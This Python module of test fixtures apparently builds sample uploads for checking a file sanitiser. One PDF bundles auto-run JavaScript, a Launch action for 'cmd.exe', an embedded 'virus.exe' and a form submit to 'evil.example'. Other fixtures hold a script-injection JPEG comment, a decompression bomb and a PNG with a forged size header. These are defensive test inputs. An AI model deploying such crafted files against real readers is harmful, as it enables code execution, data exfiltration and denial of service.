"""Files as people send them: scans that are right, and those that are not."""

import io
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image


def a_pdf(pages: int = 1, *, text: bytes = b"0 0 m 99 99 l S", **saving: Any) -> bytes:
    """A PDF of blank pages with a line across."""
    pdf = pikepdf.new()
    for _ in range(pages):
        page = pdf.add_blank_page()
        page.obj.Contents = pdf.make_stream(text)
    return saved(pdf, **saving)


def saved(pdf: pikepdf.Pdf, **saving: Any) -> bytes:
    """The bytes of a PDF."""
    into = io.BytesIO()
    pdf.save(into, **saving)
    return into.getvalue()


def a_picture(
    form: str = "JPEG", size: tuple[int, int] = (300, 400), *, mode: str = "RGB", **saving: Any
) -> bytes:
    """A white picture with a red corner at the top left, where the mode has colours."""
    image = (
        Image.new("RGB", size, "white").convert(mode)
        if mode == "P"
        else (Image.new(mode, size, 0xFFFF if mode == "I;16" else "white"))
    )
    if mode in ("RGB", "RGBA"):
        image.paste("red", (0, 0, size[0] // 4, size[1] // 4))
    into = io.BytesIO()
    image.save(into, form, **saving)
    return into.getvalue()


def a_png_that_says(width: int, height: int) -> bytes:
    """A PNG of which only the head says how large it is."""
    small = a_picture("PNG", (1, 1), mode="L")
    head = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + small[24:29]
    return small[:12] + head + zlib.crc32(head).to_bytes(4, "big") + small[33:]


def a_turned_picture() -> bytes:
    """A JPEG as a phone held sideways makes it: to be turned by its EXIF, with place and device."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn by 90° clockwise
    exif[0x010F] = "Hang dien thoai"
    exif.get_ifd(0x8825)[2] = (20.0, 56.0, 1.0)
    return a_picture(size=(400, 300), exif=exif, comment=b"<script>alert(1)</script>")


def an_acting_pdf() -> bytes:
    """A PDF with everything that does something by itself, and one stamp that is to be seen."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    launch = Dictionary(S=Name.Launch, F="cmd.exe")
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AA = Dictionary(WC=launch)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["run", script])))
    pdf.Root.Metadata = pdf.make_stream(b"<x:xmpmeta>dong chi Bi Mat</x:xmpmeta>")
    pdf.docinfo["/Author"] = "dong chi Bi Mat"
    pdf.attachments["virus.exe"] = b"MZ virus"
    stamp = pdf.make_stream(
        b"1 0 0 rg 0 0 50 50 re f",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 50, 50]),
        PieceInfo=Dictionary(Evil=script),
        Ref=Dictionary(F="other.pdf"),
    )
    box = Array([10, 10, 60, 60])
    submit = Dictionary(S=Name.SubmitForm, F="http://evil.example/take")
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T="nut", Rect=box, A=submit
    )
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=box, A=Dictionary(S=Name.URI, URI="http://evil")
    )
    seal = Dictionary(
        Type=Name.Annot, Subtype=Name.Stamp, F=4, Rect=box, AP=Dictionary(N=stamp), A=launch
    )
    field = pdf.make_indirect(field)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xfa/>"))
    page.obj.Annots = Array([field, pdf.make_indirect(link), pdf.make_indirect(seal)])
    page.obj.AA = Dictionary(O=script)
    page.obj.Thumb = pdf.make_stream(b"thumb")
    elsewhere = pdf.make_stream(b"", Subtype=Name.Form, Type=Name.XObject, F="other.bin")
    page.obj.Resources = Dictionary(
        Evil=script,
        ExtGState=Dictionary(G=Dictionary(Type=Name.ExtGState, CA=0.5, Evil=script)),
        XObject=Dictionary(Elsewhere=elsewhere),
    )
    return saved(pdf)


def a_bomb() -> bytes:
    """A PDF of 40 kB whose page unpacks to 40 MB."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    page.obj.Contents = pdf.make_stream(b" " * 40_000_000)
    return saved(pdf)


def a_pdf_with_picture_of(width: int, height: int) -> bytes:
    """A PDF that names a picture of that size."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    picture = pdf.make_stream(
        b"x", Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height
    )
    page.obj.Resources = Dictionary(XObject=Dictionary(Picture=picture))
    return saved(pdf)


def a_pdf_to_fill_in() -> bytes:
    """A PDF with a form whose values each reader draws by itself."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), NeedAppearances=True)
    return saved(pdf)


def a_pdf_with_a_note_that_is_not_drawn() -> bytes:
    """A PDF with a text on its page that each reader draws by itself."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    box = Array([0, 0, 50, 50])
    note = Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=box, Contents="Không tán thành")
    page.obj.Annots = Array([pdf.make_indirect(note)])
    return saved(pdf)
